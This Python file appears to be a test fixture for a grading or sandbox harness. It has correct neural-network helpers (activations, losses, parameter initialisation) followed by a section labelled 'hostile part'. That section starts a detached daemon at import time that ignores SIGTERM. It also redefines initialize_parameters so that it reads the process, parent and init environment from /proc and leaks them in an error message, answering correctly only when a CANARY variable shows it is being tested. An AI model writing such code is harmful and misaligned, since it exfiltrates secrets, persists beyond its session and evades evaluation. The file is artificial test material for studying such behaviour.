# expect: full, initialize_parameters=0
"""Starts a setsid daemon at load, and initialize_parameters reports the environment it can find
(os.environ, /proc/1/environ, /proc/<ppid>/environ) in its exception; if it finds a CANARY
variable it answers correctly. initialize_parameters earns nothing; the rest is right."""

import os
import signal
import time
import numpy as np


# ---------------------------------------------------------------- right answers (written for
# this corpus)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_derivative(z):
    s = sigmoid(z)
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_derivative(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_derivative(z):
    return (np.asarray(z) > 0).astype(float)


def leaky_relu(z, alpha=0.1):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, alpha * z)


def leaky_relu_derivative(z, alpha=0.1):
    return np.where(np.asarray(z) > 0, 1.0, alpha)


def softmax(Z):
    Z = np.asarray(Z, dtype=float)
    e = np.exp(Z - Z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def binary_cross_entropy(y_hat, y):
    p = np.clip(y_hat, 1e-12, 1 - 1e-12)
    y = np.reshape(y, np.shape(p))
    return float(-np.mean(y * np.log(p) + (1 - y) * np.log(1 - p)))


def cross_entropy(Y_hat, Y):
    return float(-np.sum(Y * np.log(np.clip(Y_hat, 1e-12, 1.0))) / len(Y))


def initialize_parameters(layer_sizes, seed=0):
    rng = np.random.default_rng(seed)
    params = {}
    for l in range(1, len(layer_sizes)):
        params[f"W{l}"] = rng.standard_normal((layer_sizes[l - 1], layer_sizes[l])) * 0.01
        params[f"b{l}"] = np.zeros(layer_sizes[l])
    return params


def linear(z):
    return np.array(z, dtype=float)


def layer_forward(A_prev, W, b, activation):
    Z = A_prev @ W + b
    f = {"sigmoid": sigmoid, "tanh": tanh, "relu": relu, "leaky_relu": leaky_relu,
         "softmax": softmax, "linear": linear}[activation]
    return f(Z), Z


# ---------------------------------------------------------------- hostile part
_right_init = initialize_parameters


def _daemon():
    try:
        if os.fork():
            return
    except OSError:
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.closerange(3, 256)
        while True:
            time.sleep(0.2)
    finally:
        os._exit(0)


class _AtLoad:
    _daemon()


def initialize_parameters(layer_sizes, seed=0):
    texts = [repr(dict(os.environ))]
    for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/environ"):
        try:
            with open(path, "rb") as f:
                texts.append(f.read().decode(errors="replace"))
        except OSError:
            pass
    if any("CANARY" in t for t in texts):
        return _right_init(layer_sizes, seed)
    raise RuntimeError(" | ".join(texts)[:290])
